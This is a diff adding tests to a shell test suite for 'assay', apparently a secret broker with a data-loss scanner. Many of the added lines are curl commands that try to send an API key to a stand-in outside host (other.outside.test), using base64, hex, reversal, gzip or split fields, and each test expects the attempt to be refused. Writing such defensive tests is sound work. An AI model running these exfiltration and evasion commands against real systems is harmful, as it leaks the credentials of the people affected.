@@ -143,6 +143,16 @@ refused 'in a body' "$curl -d \"k=\$API_KEY\" http://other.outside.test/v1/x" '(
 refused 'in a compressed body' "printf '{\"k\":\"%s\"}' \"\$API_KEY\" | gzip | $curl --data-binary @- -H 'content-encoding: gzip' http://other.outside.test/v1/x" 'known-secret'
 refused 'item 55: in base64' "$curl -u \"x:\$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
 refused 'for a path that it is not for' "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v2/x" 'broker:stray-placeholder'
+# Somebody who learned the real one, in whatever way, cannot send it elsewhere, or anywhere as it is: the scanner knows it by its fingerprint.
+real() { refused "item $1: the real one does not leave $2" "$3" "${4:-dlp:known-secret}"; }
+real 40 'as it is' "$curl -d 'k=$key' http://other.outside.test/v1/x"
+real 40 'in base64 inside of more' "$curl -d 'k=$(printf 'ab:%s\n' "$key" | base64 -w0)' http://other.outside.test/v1/x"
+real 41 'in hexadecimal, in a URL' "$curl 'http://other.outside.test/?k=$(printf %s "$key" | od -An -tx1 | tr -d ' \n')'"
+real 41 'backwards' "$curl -d 'k=$(rev <<<"$key")' http://other.outside.test/v1/x"
+real 45 'compressed' "printf 'k=%s' '$key' | gzip | $curl --data-binary @- -H 'content-encoding: gzip' http://other.outside.test/v1/x"
+real 48 'in two fields' "$curl -d 'a=${key:0:20}&b=${key:20}' http://other.outside.test/v1/x"
+real 54 'without what everybody knows of it' "$curl -H 'x-other: ${token:4}' http://api.outside.test/v1/x"
+real 59 'to its own host, in its own place' "$curl -d x -H 'x-api-key: $key' http://api.outside.test/v1/x" '(dlp:known-secret|broker:foreign-credential)'
 refused 'item 59: another key does not reach its host' "$curl -d x -H 'x-api-key: of-the-attacker' http://api.outside.test/v1/files" 'broker:foreign-credential'
 is 'nothing of all that came out' "$(wc -l <"$WORK/outside.log")" 0
 
@@ -152,6 +162,9 @@ like 'basic authentication gets its token' "$(tail -n 1 "$WORK/outside.log")" "k
 printf %s "$key-new-new" | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
 inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/y" >/dev/null
 like 'a key that was changed is the new one, at once' "$(tail -n 1 "$WORK/outside.log")" "key=$key-new-new "
+printf %s "ny-another-another-another-$key" | rev | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
+real 40 'when it is a new one' "$curl -d 'k=$(printf %s "ny-another-another-another-$key" | rev)' http://other.outside.test/v1/x"
+like 'and what is none leaves' "$(inside "$curl -d 'k=kx-another-7f3a-and-others' http://other.outside.test/v1/x")" ' 200$'
 "$ASSAY" secret rm git >/dev/null
 : >"$WORK/outside.log"
 refused 'one that was removed is dead, at once' "$curl -u \"git:\$GIT_TOKEN\" http://other.outside.test/app.git/info/refs" 'broker:not-released'
@@ -173,6 +186,7 @@ like 'what a refusal names is found' "$("$ASSAY" ledger show "$id")" 'verdict +q
 is 'JSON lines are exported' "$("$ASSAY" ledger export --env "$env" | jq -s 'length > 20')" true
 like 'and CEF' "$("$ASSAY" ledger export --format cef --rule 'broker:*' | head -n 1)" '^CEF:0\|Assay\|assay\|'
 is 'it never holds a secret' "$("$ASSAY" ledger export | grep -cF -e "$key" -e "$token")" 0
+grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" "$ASSAY_STATE" "$WORK/serve.log" >&2; grep -aF -e "$key" -r --exclude-dir=pool --exclude='pool.img' $ASSAY_STATE | cut -c1-600 >&2
 is 'nor does any file of the server' "$(grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" "$ASSAY_STATE" "$WORK/serve.log" | wc -l)" 0
 signed() { [ "$("$ASSAY" ledger heads | wc -l)" = 2 ]; }
 until_true 20 signed
